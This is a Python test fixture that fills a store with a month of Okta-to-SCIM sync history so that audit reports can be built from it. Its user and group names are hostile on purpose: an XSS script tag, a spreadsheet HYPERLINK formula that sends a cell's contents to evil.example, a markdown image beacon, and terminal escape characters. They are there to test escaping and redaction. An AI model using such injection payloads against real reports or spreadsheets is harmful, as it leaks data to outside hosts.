"""A month in the life of one connection, in a real store: everything that an audit report tells, with hostile names."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from tempfile import TemporaryDirectory

from syncd.answers.report import report
from syncd.core.change import REMOVALS, Change, ChangeKind, Json, Removal
from syncd.core.evidence import AskedByOperator
from syncd.core.plan import Hold, timestamp
from syncd.model import PushedGroup, PushedUser, WantedGroup, WantedUser
from syncd.ports import Effect, GroupPushed, MemberPushed, Settled, Store, UserPushed
from syncd.ports.history import Reach
from syncd.redact import Redactor
from syncd.report.view import Report
from syncd.settings import ConnectionSettings
from tests.settings.making import MINIMAL, settings
from tests.store.making import Clock, Place, absorb, group, wanted

BEGIN = datetime(2026, 3, 1, 8, 0, tzinfo=UTC)
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PEOPLE = (
    "ada@example.com",
    "ben@example.com",
    "cleo@example.com",
    SCRIPT,
    "+dora@example.com",
    "eve|![x](http://evil.example/x.png)@example.com",
    "finn@example.com\x1b[31m\u202e",
    "gus@example.com",
)
GROUPS = ("Engineering", FORMULA, "Finance | *bold*")
SECRET = "00okta-Token-value-7Qx2"


def users() -> list[WantedUser]:
    return [
        wanted(f"00u{at}", name=name, reason=f"assigned through group {GROUPS[at % 3]}")
        for at, name in enumerate(PEOPLE)
    ]


def groups() -> list[WantedGroup]:
    return [
        replace(group(f"00g{at}"), name=name, target_name=name, rule=f"name = {json.dumps(name)}")
        for at, name in enumerate(GROUPS)
    ]


def change(kind: ChangeKind, okta_id: str, name: str, *, group_at: int | None = None, **more: Json) -> Change:
    """`more` is what it is afterwards; updates have a before."""
    member = group_at is not None
    fields = {
        "kind": kind,
        "okta_id": okta_id,
        "scim_id": f"scim-{okta_id}",
        "name": name,
        "before": dict.fromkeys(more, "before") if kind is ChangeKind.UPDATE_USER else {},
        "after": more,
        "reason": "member of the group in Okta" if member else "assigned in Okta",
        "group_id": f"00g{group_at}" if member else None,
        "group": GROUPS[group_at] if group_at is not None else None,
        "user": name if member else None,
    }
    if kind in REMOVALS:
        return Removal(**fields, evidence=AskedByOperator("asked in a test"))  # type: ignore[arg-type]
    return Change(**fields)  # type: ignore[arg-type]


class Month:
    """Writes the story into a store."""

    def __init__(self, store: Store, clock: Clock) -> None:
        self.store, self.clock = store, clock

    def at(self, day: int, hour: int = 8, minute: int = 0) -> None:
        self.clock.now = BEGIN + timedelta(days=day, hours=hour - 8, minutes=minute)

    def run(
        self,
        done: Sequence[tuple[Change, Sequence[Effect], str | None]],
        *,
        kind: str = "delta",
        status: str = "succeeded",
        error: str | None = None,
        seconds: float = 2,
    ) -> str:
        run_id = self.store.begin_run(kind)
        applied: dict[str, int] = {}
        for each, effects, failed in done:
            (sequence,) = self.store.intend(run_id, [each])
            self.clock.advance(timedelta(seconds=seconds / len(done)))
            self.store.settle(
                [
                    Settled(
                        sequence, each, effects, status=400 if failed else 200, error=failed, request="PATCH"
                    )
                ]
            )
            if failed is None:
                applied[each.kind] = applied.get(each.kind, 0) + 1
        self.store.finish_run(
            run_id, status=status, summary={"applied": applied} if applied else {}, error=error
        )
        return run_id

    def tell(self) -> None:
        self.first_sync()
        events: list[tuple[int, Callable[[int], None]]] = [
            (day, self.ordinary_day) for day in range(2, 28, 3)
        ]
        events += [
            (9, self.a_refused_update),
            (12, self.an_outage),
            (15, self.a_hold),
            (20, self.some_drift),
            (28, self.more_drift),
            (29, self.a_failure_that_stays),
        ]
        for day, event in sorted(events, key=lambda one: one[0]):
            event(day)

    def first_sync(self) -> None:
        self.at(0)
        people = users()
        absorb(
            self.store,
            users=people,
            groups=groups(),
            lists={
                f"00g{at}": [
                    each.okta_id for number, each in enumerate(people) if number % 3 == at and number < 7
                ]
                for at in range(3)
            },
        )
        done: list[tuple[Change, Sequence[Effect], str | None]] = []
        for each in people:
            pushed = PushedUser(f"scim-{each.okta_id}", each.attributes, active=True)
            made = change(ChangeKind.CREATE_USER, each.okta_id, each.user_name, userName=each.user_name)
            done.append((made, [UserPushed(each.okta_id, pushed)], None))
        for at, one in enumerate(groups()):
            made = change(ChangeKind.CREATE_GROUP, one.okta_id, one.name, displayName=one.name)
            done.append(
                (made, [GroupPushed(one.okta_id, PushedGroup(f"scim-{one.okta_id}", one.name), ())], None)
            )
            done += [
                self.joining(each, at)
                for number, each in enumerate(people)
                if number % 3 == at and number < 7
            ]
        self.run(done, kind="full", seconds=20)
        self.store.remember("last_complete_read", timestamp(self.clock.now))

    def joining(
        self, user: WantedUser, group_at: int, *, present: bool = True
    ) -> tuple[Change, Sequence[Effect], None]:
        kind = ChangeKind.ADD_MEMBER if present else ChangeKind.REMOVE_MEMBER
        made = change(kind, user.okta_id, user.user_name, group_at=group_at, member=present)
        return made, [MemberPushed(f"00g{group_at}", user.okta_id, present)], None

    def ordinary_day(self, day: int) -> None:
        self.at(day, 10)
        one = users()[(0, 2, 6)[day % 9 // 3]]
        update = change(ChangeKind.UPDATE_USER, one.okta_id, one.user_name, displayName=f"Name {day}")
        pushed = PushedUser(f"scim-{one.okta_id}", one.attributes, active=True)
        self.run([(update, [UserPushed(one.okta_id, pushed)], None)], seconds=0.4)
        self.at(day, 14)
        self.run([self.joining(one, 1, present=False), self.joining(one, 1)], seconds=45)

    def a_refused_update(self, day: int) -> None:
        ben = users()[1]
        refused = change(ChangeKind.UPDATE_USER, ben.okta_id, ben.user_name, title=FORMULA)
        self.at(day, 11)
        self.run([(refused, (), f"the target answers 400: {SCRIPT}")], status="partial")
        self.at(day, 12)
        self.run([(refused, (), "the target answers 400")], status="partial")
        self.at(day, 15)
        self.run([(refused, (), None)])

    def an_outage(self, day: int) -> None:
        for minute in (0, 5, 10):
            self.at(day, 3, minute)
            self.run([], kind="full", status="failed", error=f"Okta does not answer ({SECRET})")
        self.at(day, 3, 30)
        self.run([], kind="full")

    def a_failure_that_stays(self, day: int) -> None:
        ben = users()[1]
        self.at(day, 7)
        again = change(ChangeKind.UPDATE_USER, ben.okta_id, ben.user_name, title="Dr")
        self.run([(again, (), "the target answers 409: | <b>")], status="partial")

    def a_hold(self, day: int) -> None:
        self.at(day, 9)
        people = users()
        leaving = [
            change(ChangeKind.DEACTIVATE_USER, each.okta_id, each.user_name, active=False)
            for each in people[3:6]
        ]
        reason = "3 users would be removed; the limit max_deactivations = 10% allows 1 of 8"
        hold = Hold("hold0001", "deactivations", reason, "approve", {"allowed": 1, "planned": 3}, 3)
        self.store.raise_holds([(hold, leaving)], whole=True)
        self.clock.advance(timedelta(hours=1))
        self.store.decide([leaving[0].id], "approve", "ann (uid 1000)")
        self.store.decide([leaving[1].id], "reject", "=ben")
        attributes = people[3].attributes
        gone = UserPushed(people[3].okta_id, PushedUser("scim-00u3", attributes, active=False))
        self.run([(leaving[0], [gone], None)], kind="targeted")

    def some_drift(self, day: int) -> None:
        self.at(day, 2)
        run_id = self.run([], kind="drift")
        self.store.note(
            {"drift": {"summary": {"changed_user": 2, "extra_member": 1}, "fixed": False}}, run_id=run_id
        )

    def more_drift(self, day: int) -> None:
        self.at(day, 2)
        run_id = self.run([], kind="drift")
        summary = {"changed_user": 1, "unmanaged_user": 1}
        self.store.note({"drift": {"summary": summary, "fixed": False}}, run_id=run_id)
        items = [
            _item("changed_user", "cleo@example.com", {"title": "Dr"}, {"title": FORMULA}, "set it back"),
            _item("unmanaged_user", SCRIPT, None, {"active": True}, ""),
        ]
        document = {"schema": "syncd.drift/1", "connection": "split-prod", "summary": summary, "items": items}
        self.store.remember("last_drift", json.dumps(document | {"created_at": timestamp(self.clock.now)}))


def _item(kind: str, name: str, wanted_side: object, found: object, repair: str) -> dict[str, object]:
    about = {"type": "user", "okta_id": "00u2", "scim_id": "scim-00u2", "name": name, "group": None}
    return {
        "kind": kind,
        "object": {**about, "group_id": None},
        "wanted": wanted_side,
        "remembered": wanted_side,
        "found": found,
        "reason": "the target shows another value",
        "repair": repair,
    }


def connection() -> ConnectionSettings:
    return settings(f'name = "split-prod"\n{MINIMAL}token_created = 2025-04-20\n')


@contextmanager
def told(tell: Callable[[Month], None] = Month.tell) -> Iterator[tuple[Store, Clock]]:
    with TemporaryDirectory() as folder:
        place = Place(Path(folder) / "state" / "split-prod.db")
        with place.open() as store:
            tell(Month(store, place.clock))
            yield store, place.clock


@contextmanager
def reported(tell: Callable[[Month], None] = Month.tell, reach: Reach | None = None) -> Iterator[Report]:
    """The report at the end of the month."""
    with told(tell) as (store, clock):
        now = max(clock.now, BEGIN + timedelta(days=30))
        clock.now = now
        yield report(store, connection(), Redactor([SECRET]), now=now, reach=reach or Reach())


def settled(text: str) -> str:
    """Without what every run of the story makes anew: the random end of run ids, and hashes."""
    text = re.sub(r"(\d{8}T\d{6}Z)-[0-9a-f]{6}", r"\1-000000", text)
    return re.sub(r"\b(\d+):[0-9a-f]{64}\b", r"\1:" + "0" * 64, text)
